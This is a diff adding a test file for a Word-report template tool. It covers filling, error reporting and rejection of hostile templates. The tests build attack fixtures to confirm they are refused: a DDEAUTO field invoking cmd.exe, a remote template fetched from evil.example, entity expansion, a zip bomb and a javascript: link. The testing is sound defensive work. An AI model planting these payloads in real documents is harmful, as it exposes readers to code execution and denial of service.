@@ -1,0 +1,199 @@
+import { Document, Packer, Paragraph, Table, TableCell, TableRow, TextRun, Header } from 'docx';
+import { Zip } from 'easy-template-x';
+import mammoth from 'mammoth';
+import { describe, expect, it } from '@rstest/core';
+import { languages } from '#core';
+import type { ThreadTask } from '#core/server';
+import type { ReportContent } from '../../report-content';
+import { readyTemplates } from '../../template-choice';
+import { emptyContent } from './empty-content';
+import task, { type TemplateOrder, type TemplateOutcome } from './template-task';
+
+const run = (order: TemplateOrder) =>
+  (task as unknown as ThreadTask<null, null, TemplateOrder, TemplateOutcome>).run(null, order);
+const word = (...lines: readonly (string | Table)[]): Promise<Buffer> =>
+  Packer.toBuffer(
+    new Document({
+      sections: [
+        {
+          headers: { default: new Header({ children: [new Paragraph('{标题}')] }) },
+          children: lines.map((line) => (typeof line === 'string' ? new Paragraph(line) : line)),
+        },
+      ],
+    }),
+  );
+const faultsOf = async (...lines: readonly (string | Table)[]) => {
+  const { faults = [] } = await run({ deed: 'check', template: await word(...lines) });
+  return faults.map(
+    ({ Reason, Variable, Part, Paragraph: at, Suggestion }) =>
+      `${Reason} ${Variable} ${Part} ${at} ${Suggestion ?? ''}`,
+  );
+};
+const textOf = async (file: Uint8Array | undefined): Promise<string> =>
+  (await mammoth.extractRawText({ buffer: Buffer.from(file ?? []) })).value;
+const changed = async (file: Buffer, name: string, content: string): Promise<Buffer> => {
+  const zip = await Zip.load(file);
+  zip.setFile(name, content);
+  return zip.export(Buffer);
+};
+
+const hostile = `</w:t><w:p>" & <b>'\u0000\ud800{total}`;
+const content: ReportContent = {
+  ...emptyContent,
+  title: '舆情周报',
+  lead: '本期共监测到 1,234 条。',
+  counts: { total: 1234, positive: 100, neutral: 1000, negative: 134 },
+  totalBefore: 1000,
+  columns: [
+    {
+      name: '要闻',
+      articles: [
+        { ...emptyContent.columns[0]!.articles[0]!, title: hostile, url: 'https://a.example/?a=1&b=2', remark: '' },
+        {
+          ...emptyContent.columns[0]!.articles[0]!,
+          title: '第二条',
+          url: 'javascript:alert(1)',
+          remark: '须跟进',
+          isNegative: false,
+        },
+      ],
+    },
+  ],
+};
+
+describe('a template', () => {
+  it('is filled with values, loops, conditions, pictures and ways out, whatever language its names are in', async () => {
+    const template = await word(
+      '{标题}：{total}，{环比}',
+      '{#全部文章}{序号} {标题} {link}{#备注}【{备注}】{/备注}；{/全部文章}',
+      '{#emotion_trend}{name}{chart[width: 300]}{/emotion_trend}',
+    );
+    expect((await run({ deed: 'check', template })).faults).toEqual([]);
+    const { file } = await run({ deed: 'fill', template, content });
+    const text = await textOf(file);
+    expect(text).toContain('舆情周报：1,234，+23.4%');
+    expect(text).toContain(`1 </w:t><w:p>" & <b>'{total}`);
+    expect(text).toContain('2 第二条 第二条【须跟进】；');
+    const { value: page } = await mammoth.convertToHtml({ buffer: Buffer.from(file ?? []) });
+    expect(page).toContain('<a href="https://a.example/?a=1&amp;b=2">&lt;/w:t&gt;&lt;w:p&gt;');
+    const zip = await Zip.load(Buffer.from(file ?? []));
+    expect(zip.listFiles().filter((name) => name.endsWith('.png'))).toHaveLength(1);
+    expect(await zip.getFile('word/_rels/document.xml.rels').getContentText()).not.toContain('javascript');
+  });
+
+  it.each(languages.flatMap((language) => readyTemplates.map((name) => [name, language] as const)))(
+    'that comes with the product is right and can be filled: %s %s',
+    async (name, language) => {
+      const { file } = await run({ deed: 'make', template: name, language });
+      const checked = await run({ deed: 'check', template: file ?? new Uint8Array() });
+      expect([checked.faults, checked.unreadable]).toEqual([[], undefined]);
+      expect(checked.variables).toBeGreaterThan(20);
+      const { file: filled } = await run({ deed: 'fill', template: name, content: { ...content, language } });
+      const text = await textOf(filled);
+      expect(text).toContain('舆情周报');
+      expect(text).toContain('第二条');
+      expect(text).not.toMatch(/\{(?!total)/);
+    },
+  );
+
+  it('gives its words, tables, links and charts to other formats', async () => {
+    const order = { deed: 'blocks', template: 'ready-report', content: { ...content, lead: '导语一句。' } } as const;
+    const { blocks = [] } = await run(order);
+    expect(blocks.some((block) => block.kind === 'chart' && block.data.categories[0] === '1')).toBe(true);
+    expect(blocks.some((block) => block.kind === 'paragraph' && block.text === '导语一句。')).toBe(true);
+    expect(blocks.flatMap((block) => (block.kind === 'entry' ? [block.url] : []))).toEqual([
+      'https://a.example/?a=1&b=2',
+    ]);
+    expect(blocks.some((block) => block.kind === 'heading' && block.text === '一、总体情况')).toBe(true);
+  });
+
+  it('says which variable is wrong, where it stands, and what was meant', async () => {
+    const row = new TableRow({
+      children: [new TableCell({ children: [new Paragraph('{#figures}{nmae}{/figures}')] })],
+    });
+    expect(
+      await faultsOf(
+        '{title}',
+        '{titel}',
+        '{信息总数}',
+        '{#articles}{title}',
+        '{/modules}',
+        '{/}',
+        new Table({ rows: [row] }),
+      ),
+    ).toEqual([
+      'unknown titel body 2 title',
+      'unknown 信息总数 body 3 信息总量',
+      'unopened  body 6 ',
+      'unknown nmae body 7 name',
+    ]);
+    expect(await faultsOf('{articles}', '{a', '}')).toEqual([
+      'list articles body 1 ',
+      'brace {a body 2 ',
+      'brace } body 3 ',
+    ]);
+    expect(await faultsOf('{#columns}{#articles}{#modules}{/}{/}', '{chart}')).toEqual([
+      'nested modules body 1 ',
+      'unknown chart body 2 ',
+      'unclosed columns body 1 ',
+    ]);
+  });
+
+  it('multiplies nothing by itself: a list cannot stand within itself', async () => {
+    expect(await faultsOf('{#articles}{#articles}{title}{/}{/}')).toEqual(['nested articles body 1 ']);
+  });
+
+  it('repeats whole paragraphs where a loop is made of them', async () => {
+    const template = await word('{#articles}{no}. {link}', '{site}', '{summary}{/articles}', '完');
+    const articles = [1, 2].map((each) => ({
+      ...emptyContent.columns[0]!.articles[0]!,
+      title: `题${each}`,
+      url: 'https://a.example/',
+      site: `站${each}`,
+      summary: `摘${each}`,
+    }));
+    const { file } = await run({ deed: 'fill', template, content: { ...content, columns: [{ name: '', articles }] } });
+    const lines = (await textOf(file)).split('\n').filter(Boolean);
+    expect(lines).toEqual(['1. 题1', '站1', '摘1', '2. 题2', '站2', '摘2', '完']);
+  });
+
+  it('is split by Word into pieces and found nevertheless', async () => {
+    const pieces = new Paragraph({
+      children: ['{ti', 'tl', 'e}'].map((text) => new TextRun({ text, bold: text === 'tl' })),
+    });
+    const template = await Packer.toBuffer(new Document({ sections: [{ children: [pieces] }] }));
+    expect((await run({ deed: 'check', template })).faults).toEqual([]);
+    expect(await textOf((await run({ deed: 'fill', template, content })).file)).toContain('舆情周报');
+  });
+});
+
+describe('a hostile template', () => {
+  it('is refused with what it holds: programs, entities, what is fetched', async () => {
+    const plain = await word('{title}');
+    const reasons = async (template: Buffer) =>
+      (await run({ deed: 'check', template })).faults?.map(({ Reason }) => Reason) ?? [];
+    expect(await reasons(await changed(plain, 'word/vbaProject.bin', 'x'))).toContain('active');
+    const laughs = '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><w:ftr>&c;</w:ftr>';
+    expect(await reasons(await changed(plain, 'word/footer9.xml', laughs))).toContain('active');
+    const outside = `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>`;
+    expect(await reasons(await changed(plain, 'word/_rels/settings.xml.rels', outside))).toContain('outside');
+    const field = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>';
+    expect(await reasons(await changed(plain, 'word/footer8.xml', field))).toContain('outside');
+  });
+
+  it('is not unpacked beyond its limits, and none that is no Word file is opened', async () => {
+    const bomb = await changed(await word('{title}'), 'word/media/a.xml', '0'.repeat(70 * 1024 * 1024));
+    expect(await run({ deed: 'check', template: bomb })).toEqual({ unreadable: 'too-large' });
+    for (const template of [Buffer.from('PK\u0003\u0004nothing'), Buffer.from('%PDF-1.7'), Buffer.alloc(0)])
+      expect(await run({ deed: 'check', template })).toEqual({ unreadable: 'unreadable' });
+  });
+
+  it('may be deep, and is told to be none that can be read', async () => {
+    const deep = `<w:document xmlns:w="w"><w:body>${'<w:p>'.repeat(60_000)}${'</w:p>'.repeat(60_000)}</w:body></w:document>`;
+    const outcome = await run({
+      deed: 'check',
+      template: await changed(await word('{title}'), 'word/document.xml', deep),
+    });
+    expect(outcome.unreadable ?? outcome.faults?.[0]?.Reason).toMatch(/unreadable|unfit/);
+  });
+});
